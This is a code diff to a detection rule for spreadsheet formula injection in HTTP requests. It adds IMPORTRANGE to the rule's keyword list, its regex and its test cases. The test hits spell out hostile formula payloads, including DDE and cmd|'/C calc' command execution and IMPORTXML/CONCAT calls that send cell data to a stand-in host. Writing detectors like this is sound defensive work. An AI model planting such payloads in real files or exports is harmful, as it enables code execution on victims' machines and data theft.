@@ -29,6 +29,7 @@ export default defineRule({
       'importhtml(',
       'importfeed(',
       'importdata(',
+      'importrange(',
       'webservice(',
       'hyperlink(',
       'image("h',
@@ -38,7 +39,7 @@ export default defineRule({
     ],
   ],
   match:
-    /[=+@-][^|\n]{0,60}\b(?:cmd|msexcel|powershell|rundll32|mshta|certutil)\s?\|\s?["']|[=+@-]\s?(?:IMPORT(?:XML|HTML|FEED|DATA)\s?\(\s?(?:["']https?:|CONCAT)|(?:WEBSERVICE|HYPERLINK|IMAGE)\(\s?["']https?:)|\bDDE\s?\(\s?["']/i,
+    /[=+@-][^|\n]{0,60}\b(?:cmd|msexcel|powershell|rundll32|mshta|certutil)\s?\|\s?["']|[=+@-]\s?(?:IMPORT(?:XML|HTML|FEED|DATA|RANGE)\s?\(\s?(?:["']https?:|CONCAT)|(?:WEBSERVICE|HYPERLINK|IMAGE)\(\s?["']https?:)|\bDDE\s?\(\s?["']/i,
 
   hits: [
     "GET /a?name=%3Dcmd|'/C%20calc'!A0 HTTP/1.1",
@@ -47,7 +48,7 @@ export default defineRule({
     ...each("GET /a?name=-1%2B{}|'x'!A0 HTTP/1.1", 'msexcel rundll32 mshta certutil'),
     ...each(
       'GET /a?name=%3D{}("http://203.0.113.9/",A1) HTTP/1.1',
-      'IMPORTXML IMPORTHTML IMPORTFEED IMPORTDATA WEBSERVICE HYPERLINK IMAGE',
+      'IMPORTXML IMPORTHTML IMPORTFEED IMPORTDATA IMPORTRANGE WEBSERVICE HYPERLINK IMAGE',
     ),
     'GET /a?name=%3DIMPORTXML%20(CONCAT("http://203.0.113.9/",A1)) HTTP/1.1',
     'GET /a?name=DDE("cmd";"/C";"A0") HTTP/1.1',
